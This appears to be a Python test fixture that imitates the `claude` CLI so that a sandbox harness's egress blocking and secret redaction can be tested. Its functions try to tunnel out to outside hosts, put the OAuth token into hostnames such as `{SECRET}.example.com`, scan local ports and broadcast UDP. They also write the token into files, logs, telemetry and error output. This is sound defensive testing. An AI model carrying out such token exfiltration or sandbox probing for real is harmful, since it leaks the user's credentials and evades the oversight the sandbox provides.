"""Program that stands in for `claude` in live tests and does what `ANTHROPIC_MODEL` says.

It imports only the standard library. What it reports is what it has reached.
"""

import json
import os
import pathlib
import resource
import socket
import sys
import urllib.parse
from typing import Any

HELP = "Usage: claude [options] --output-format --model --tools --system-prompt --debug-file"
SECRET = os.environ.get("CLAUDE_CODE_OAUTH_TOKEN", "")
HOME = pathlib.Path.home()
ADDRESSES: list[list[Any]] = []
"""Ports of the machine outside; the test replaces this line."""


def gate() -> socket.socket:
    """Connect to the gate."""
    address = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    return socket.create_connection((address.hostname or "", address.port or 0), timeout=5)


def through(target: str) -> str:
    """Ask the gate for a tunnel, and return the status."""
    with gate() as connection:
        connection.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
        return connection.recv(100).decode("latin-1").split(" ")[1]


def reach(host: str, port: int) -> str:
    """Connect past the gate."""
    try:
        socket.create_connection((host, port), timeout=2).close()
    except OSError as error:
        return type(error).__name__
    return "reached"


def egress() -> str:
    """Try hosts, ports and addresses, through the gate and past it."""
    parts = [f"{SECRET[i : i + 20].lower()}:443" for i in range(0, 60, 20)]
    results = {
        "other": through("example.com:443"),
        "token endpoint": through("platform.claude.com:443"),
        "address": through("127.0.0.1:443"),
        "port": through("api.anthropic.com:80"),
        "secret": [through(f"{SECRET}.example.com:443"), *map(through, parts)],
        "past": [reach(host, port) for host, port in ADDRESSES],
        "resolver": reach("example.com", 443),
        "internet": reach("192.0.2.1", 443),
    }
    return json.dumps(list(results.items()))


def open_ports() -> str:
    """Report what listens in this network that is neither the gate nor the collector."""
    known = {
        urllib.parse.urlsplit(os.environ[name]).port
        for name in ("HTTPS_PROXY", "OTEL_EXPORTER_OTLP_ENDPOINT")
    }
    found: list[object] = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        for port in set(range(1, 65536)) - known:
            with socket.socket(family) as ours:
                if ours.connect_ex((host, port)) == 0 and ours.getsockname()[1] != port:
                    found.append(f"{host} {port}")  # not connected to itself
    for family, target in (
        (socket.AF_INET, ("192.0.2.1", 53)),
        (socket.AF_INET, ("255.255.255.255", 53)),
        (socket.AF_INET6, ("2001:db8::1", 53)),
        (socket.AF_INET6, ("ff02::1", 53)),
    ):
        with socket.socket(family, socket.SOCK_DGRAM) as ours:
            try:
                ours.sendto(b"x", target)
                found.append(f"UDP {target}")
            except OSError:
                pass
    found += [name for _, name in socket.if_nameindex() if name != "lo"]
    return json.dumps(found)


def tell() -> str:
    """Put the secret into every file, stream and field."""
    (HOME / "notes.txt").write_text(f"token={SECRET}")
    (HOME / SECRET[:100]).write_text("a name")
    pathlib.Path(sys.argv[sys.argv.index("--debug-file") + 1]).write_text(
        f"[API REQUEST] /v1/messages?{SECRET}\n[API REQUEST] /v1/{SECRET}\n"
        f"API error (attempt 1/1): 401 {SECRET}\n"
    )
    collector = urllib.parse.urlsplit(os.environ["OTEL_EXPORTER_OTLP_ENDPOINT"])
    names = ("model", "error", "error_type", "status_code", "attempt", "cost_usd", SECRET)
    record = {
        "attributes": [
            {"key": "event.name", "value": {"stringValue": "api_error"}},
            *({"key": name, "value": {"stringValue": SECRET}} for name in names),
        ]
    }
    body = json.dumps({"resourceLogs": [{"scopeLogs": [{"logRecords": [record]}]}]}).encode()
    with socket.create_connection((collector.hostname or "", collector.port or 0)) as connection:
        head = f"POST /v1/logs HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n"
        connection.sendall(head.encode() + body)
        connection.recv(100)
    print(f"warning: {SECRET}", file=sys.stderr)
    ids = "org_0123 of 01234567-89ab-cdef-0123-456789abcdef, 0123456789abcdef0123"
    return f"sent {SECRET} for somebody@example.com, {ids}"


def crash() -> str:
    """End with the secret as the last words."""
    sys.exit(f"Error: {SECRET} is bad")


def limits() -> str:
    """Report the limits on core dumps, and what is visible of the user."""
    names = ("USER", "LOGNAME", "SSLKEYLOGFILE", "AUTHPROBE_CACHE")
    found = {
        "core": resource.getrlimit(resource.RLIMIT_CORE),
        "environment": sorted(name for name in names if name in os.environ),
        "config": os.listdir(os.environ["CLAUDE_CONFIG_DIR"]),  # noqa: PTH208
    }
    return json.dumps(list(found.items()))


def claim() -> str:
    """Claim an answer without a question."""
    return "pong"


ACTS = {
    "egress": egress,
    "ports": open_ports,
    "tell": tell,
    "crash": crash,
    "limits": limits,
    "claim": claim,
}


def main() -> None:
    """Behave like `claude`."""
    if "--version" in sys.argv:
        print("2.1.332 (Claude Code)")
        return
    if "--help" in sys.argv:
        print(HELP)
        return
    act = os.environ["ANTHROPIC_MODEL"]
    report = {"type": "result", "is_error": act != "claim", "result": ACTS[act]()}
    if act == "tell":
        report |= {"api_error_type": SECRET, "total_cost_usd": SECRET, "session_id": SECRET}
    print(json.dumps(report))


main()
